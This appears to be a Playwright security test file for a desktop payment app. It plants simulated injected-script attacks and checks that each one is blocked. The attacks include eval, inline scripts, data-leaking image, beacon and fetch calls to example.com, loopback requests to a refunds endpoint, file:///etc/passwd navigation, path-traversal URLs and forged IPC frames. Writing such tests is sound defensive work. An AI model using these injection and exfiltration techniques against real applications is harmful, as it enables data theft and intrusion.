// Attacks from inside the page: what a script that got into it would try. Each must come to nothing, whatever the page's own
// code would have prevented before.
/* oxlint-disable no-eval, no-extend-native, typescript/no-implied-eval, promise/no-multiple-resolved -- these are the attacks */
import type { Page } from '@playwright/test'
import { expect, test } from '../fixture.ts'
import { rows } from '../support/operator.ts'

/** Runs one of the planted attacks; answers what came of it, or the name of the error. */
const attempt = (page: Page, attack: string): Promise<unknown> =>
  page.evaluate(async (name) => {
    // What the debugger calls may do what the policy forbids: the attack itself runs in a task of the page's own.
    await new Promise((resolve) => setTimeout(resolve))
    try {
      return await (window as unknown as Record<string, () => unknown>)[name]?.()
    } catch (error) {
      return error instanceof Error ? error.name : String(error)
    }
  }, attack)

async function plant(page: Page): Promise<void> {
  await page.evaluate(() => {
    const attacks = {
      evaluate: () => globalThis.eval('1 + 1') as unknown,
      construct: () => new Function('return 1')() as unknown,
      timer: () =>
        new Promise((resolve) => {
          Object.assign(window, { ran: false })
          try {
            ;(setTimeout as (code: string) => void)('window.ran = true')
          } catch (error) {
            resolve((error as Error).name)
          }
          setTimeout(() => resolve((window as unknown as { ran: boolean }).ran), 100)
        }),
      markup: () => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">')
      },
      inlineScript: () => {
        Object.assign(window, { ran: false })
        const script = document.createElement('script')
        script.append('window.ran = true')
        document.body.append(script)
        return (window as unknown as { ran: boolean }).ran
      },
      foreignScript: () =>
        new Promise((resolve) => {
          const script = document.createElement('script')
          try {
            script.src = 'https://example.com/x.js'
          } catch (error) {
            resolve((error as Error).name)
          }
          script.addEventListener('load', () => resolve('loaded'))
          script.addEventListener('error', () => resolve('refused'))
          document.body.append(script)
        }),
      image: () =>
        new Promise((resolve) => {
          const image = new Image()
          image.addEventListener('load', () => resolve('loaded'))
          image.addEventListener('error', () => resolve('refused'))
          image.src = 'https://example.com/leak.png?what=was+read'
        }),
      frame: () =>
        new Promise((resolve) => {
          const frame = document.createElement('iframe')
          frame.src = 'https://example.com/'
          document.body.append(frame)
          setTimeout(() => {
            try {
              resolve(frame.contentDocument === null ? 'blocked' : frame.contentDocument.URL)
            } catch (error) {
              resolve((error as Error).name)
            }
            frame.remove()
          }, 300)
        }),
      worker: () => {
        const worker = new Worker(URL.createObjectURL(new Blob(['1'])))
        return new Promise((resolve) => {
          worker.addEventListener('error', () => resolve('refused'))
          setTimeout(() => resolve('running'), 300)
        })
      },
      fetchElsewhere: async () => (await fetch('https://example.com/')).status,
      fetchLoopback: async () =>
        (await fetch('http://127.0.0.1:12111/v1/refunds', { method: 'POST' })).status,
      fetchOwn: async () => (await fetch('/index.html')).status,
      socket: () =>
        new Promise((resolve) => {
          const socket = new WebSocket('ws://127.0.0.1:9/')
          socket.addEventListener('error', () => resolve('refused'))
          socket.addEventListener('open', () => resolve('open'))
        }),
      beacon: () => navigator.sendBeacon('https://example.com/', 'leak'),
      form: () => {
        const form = document.createElement('form')
        form.action = 'https://example.com/'
        document.body.append(form)
        form.submit()
        form.remove()
      },
      opened: () => window.open('https://example.com/'),
      openedOwn: () => window.open('/'),
      notify: () => Notification.requestPermission(),
      camera: async () => {
        await navigator.mediaDevices.getUserMedia({ video: true })
        return 'granted'
      },
      place: () =>
        new Promise((resolve) => {
          navigator.geolocation.getCurrentPosition(
            () => resolve('granted'),
            () => resolve('denied'),
          )
        }),
      readClipboard: () => navigator.clipboard.readText(),
    }
    Object.assign(window, attacks)
  })
}

const refusedAttacks: readonly [what: string, attack: string, comesTo: readonly unknown[]][] = [
  ['eval', 'evaluate', ['EvalError', 'TypeError']],
  ['a function made of text', 'construct', ['EvalError', 'TypeError']],
  ['a timer of text', 'timer', ['EvalError', 'TypeError', false]],
  ['text turned into markup', 'markup', ['TypeError']],
  ['an inline script', 'inlineScript', ['TypeError', false]],
  ['a script from elsewhere', 'foreignScript', ['TypeError', 'refused']],
  ['an image that carries data away', 'image', ['refused']],
  ['a frame', 'frame', ['blocked', 'SecurityError']],
  ['a worker', 'worker', ['refused', 'SecurityError', 'TypeError']],
  ['a request elsewhere', 'fetchElsewhere', ['TypeError']],
  ['a request to this machine', 'fetchLoopback', ['TypeError']],
  ['a request to its own files', 'fetchOwn', ['TypeError']],
  ['a socket', 'socket', ['refused', 'SecurityError']],
  ['a new window', 'opened', [null]],
  ['a second window of its own', 'openedOwn', [null]],
  ['notifications', 'notify', ['denied']],
  ['the camera', 'camera', ['NotAllowedError', 'NotFoundError', 'TypeError']],
  ['the place', 'place', ['denied', 'TypeError']],
  ['the clipboard', 'readClipboard', ['NotAllowedError', 'TypeError']],
]

test('a script in the page can run no text, load nothing, reach nobody and is granted nothing', async ({
  demo,
}) => {
  const { page } = demo
  await plant(page)
  for (const [what, attack, comesTo] of refusedAttacks)
    expect.soft(comesTo, what).toContainEqual(await attempt(page, attack))
  await attempt(page, 'beacon')
  await expect(rows(page).first()).toBeVisible()
  // The policy itself stops these: the session's rule behind it, and the missing network behind that, were never asked.
  expect(
    demo.double?.refused.filter(({ by, url }) => by === 'double' && /example\.com/.test(url)) ?? [],
  ).toEqual([])
})

test('the page cannot be led away', async ({ demo }) => {
  const { page } = demo
  const { origin } = new URL(page.url())
  for (const target of [
    'https://example.com/',
    'file:///etc/passwd',
    'javascript:window.ran=1',
    'data:text/html,away',
  ]) {
    await page
      .evaluate((url) => {
        window.location.href = url
      }, target)
      .catch(() => undefined)
    await page.waitForTimeout(150)
    expect(new URL(page.url()).origin, target).toBe(origin)
  }
  await plant(page)
  await attempt(page, 'form')
  expect(await page.evaluate(() => document.querySelectorAll('[data-payment]').length)).toBeGreaterThan(0)
})

test('the bridge is two functions, and cannot be replaced, extended or reached through prototypes', async ({
  demo,
}) => {
  const { page } = demo
  const seen = await page.evaluate(async () => {
    const { bursar } = window as unknown as {
      bursar: Record<string, (...args: unknown[]) => Promise<{ ok: boolean; error?: { code: string } }>>
    }
    const before = bursar['call']
    try {
      bursar['call'] = async () => ({ ok: true })
    } catch {
      // Strict mode says so; sloppy mode just does nothing.
    }
    try {
      bursar['more'] = async () => ({ ok: true })
    } catch {
      // The same.
    }
    let heard = 0
    const original = Array.prototype.includes
    Object.defineProperty(Object.prototype, 'method', { configurable: true, get: () => (heard += 1) })
    Array.prototype.includes = () => true
    const answer = await bursar['call']?.('no.such.method', {})
    Array.prototype.includes = original
    delete (Object.prototype as Record<string, unknown>)['method']
    return {
      names: Object.keys(bursar).toSorted(),
      same: bursar['call'] === before,
      more: 'more' in bursar,
      answer: answer?.error?.code,
      node: ['process', 'require', 'Buffer', 'module', 'ipcRenderer', 'electron'].filter(
        (name) => name in window,
      ),
      heard,
    }
  })
  expect(seen).toMatchObject({
    names: ['call', 'subscribe'],
    same: true,
    more: false,
    answer: 'unknown_method',
    node: [],
  })
})

test('a call from any frame but ours is refused before it is read', async ({ demo }) => {
  test.skip(demo.double === null, 'forged frames need the double')
  const call = { method: 'desk.list', request: {} }
  for (const frame of [
    { url: 'https://example.com/' },
    { url: 'app://bursar.example.com/' },
    { url: 'app://other/index.html' },
    { url: 'file:///etc/passwd' },
    { url: 'about:blank' },
    { url: 'app://bursar/', child: true },
    { url: 'app://bursar/', gone: true },
  ]) {
    const answer = await demo.double?.control.ipcFrom(frame, 'bursar:call', call)
    expect(answer, JSON.stringify(frame)).toMatchObject({
      ok: true,
      value: { ok: false, error: { code: 'sender_refused' } },
    })
  }
})

test('no address of the own scheme leads out of the built page', async ({ demo }) => {
  const { page } = demo
  const { origin } = new URL(page.url())
  const answers = new Map<string, number>()
  page.on('response', (response) => answers.set(response.url(), response.status()))
  const paths = [
    '/..%2f..%2fpackage.json',
    '/%2e%2e/main/index.js',
    '/assets/..%5c..%5cmain%5cindex.js',
    '/assets/%00index.html',
    '//etc/passwd',
    '/package.json',
    '/main/index.js',
  ]
  for (const path of paths) {
    const outcome = await page.evaluate(
      (url) =>
        new Promise((resolve) => {
          const image = new Image()
          image.addEventListener('load', () => resolve('loaded'))
          image.addEventListener('error', () => resolve('refused'))
          image.src = url
        }),
      origin + path,
    )
    expect(outcome, path).toBe('refused')
  }
  expect(paths.filter((path) => (answers.get(new URL(origin + path).href) ?? 404) < 400)).toEqual([])
})
